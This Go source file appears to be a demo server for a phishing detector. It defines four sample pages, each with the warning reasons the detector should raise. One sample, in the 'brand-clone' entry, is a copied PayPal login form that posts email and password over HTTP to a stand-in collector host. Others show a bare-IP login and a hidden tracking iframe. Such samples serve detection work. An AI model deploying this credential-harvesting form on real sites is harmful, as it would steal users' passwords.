package demoserver

// PageDefinition is one sample page. ClaimedURL is the address the page
// pretends to be served from; assessing the HTML against it yields
// ExpectedReasons.
type PageDefinition struct {
	Path            string   `json:"path"`
	Name            string   `json:"name"`
	Description     string   `json:"description"`
	ClaimedURL      string   `json:"claimed_url"`
	HTML            string   `json:"-"`
	ExpectedReasons []string `json:"expected_reasons"`
}

// GetAllPages returns the sample pages in display order.
func GetAllPages() []PageDefinition {
	return []PageDefinition{
		{
			Path:            "/benign",
			Name:            "News article",
			Description:     "Ordinary page with a same-site search form.",
			ClaimedURL:      "https://example.com/",
			ExpectedReasons: []string{},
			HTML: `<!DOCTYPE html>
<html>
<head>
  <title>Example News</title>
  <meta name="description" content="Daily headlines">
</head>
<body>
  <h1>Headlines</h1>
  <form action="/search" method="get">
    <input type="text" name="q">
    <button type="submit">Search</button>
  </form>
  <p>Nothing to see here.</p>
</body>
</html>`,
		},
		{
			Path:        "/brand-clone",
			Name:        "Brand clone",
			Description: "Copied payment-provider login posting credentials to another domain over HTTP.",
			ClaimedURL:  "http://secure-account.example.net/signin",
			ExpectedReasons: []string{
				"Form submits to a different domain",
				"Form submits over insecure HTTP",
				"Contains brand logo but domain does not match",
				"Brand name appears in title/meta",
				"Suspicious keywords present in URL",
				"Page asks for a password",
			},
			HTML: `<!DOCTYPE html>
<html>
<head>
  <title>PayPal: Log in to your account</title>
</head>
<body>
  <img id="brand-logo" src="/static/logo.png" alt="PayPal logo">
  <form id="login" action="http://collector.example.org/submit" method="post" onsubmit="return send()">
    <input type="email" name="email" placeholder="Email">
    <input type="password" name="password" placeholder="Password">
    <button type="submit">Log In</button>
  </form>
</body>
</html>`,
		},
		{
			Path:        "/ip-login",
			Name:        "Bare IP login",
			Description: "Password prompt served from an IP address.",
			ClaimedURL:  "http://192.168.10.5/login.php",
			ExpectedReasons: []string{
				"Suspicious keywords present in URL",
				"Page asks for a password",
				"URL uses an IP address instead of domain",
			},
			HTML: `<!DOCTYPE html>
<html>
<head><title>Sign in</title></head>
<body>
  <form action="/auth" method="post">
    <input type="text" name="user">
    <input type="password" name="pass">
  </form>
</body>
</html>`,
		},
		{
			Path:        "/obfuscated",
			Name:        "Obfuscated redirect",
			Description: "Deep subdomains, userinfo and a random-looking path around a hidden iframe.",
			ClaimedURL:  "https://user@a.b.c.example.com/aB3dE5gH7jK9mN2pQ4sT6",
			ExpectedReasons: []string{
				"URL contains '@' which can obfuscate destination",
				"Unusually many subdomains",
				"High URL entropy (random-looking path/query)",
			},
			HTML: `<!DOCTYPE html>
<html>
<head><title>Loading...</title></head>
<body>
  <iframe src="https://tracker.example.org/p" width="0" height="0"></iframe>
  <p>Redirecting...</p>
</body>
</html>`,
		},
	}
}
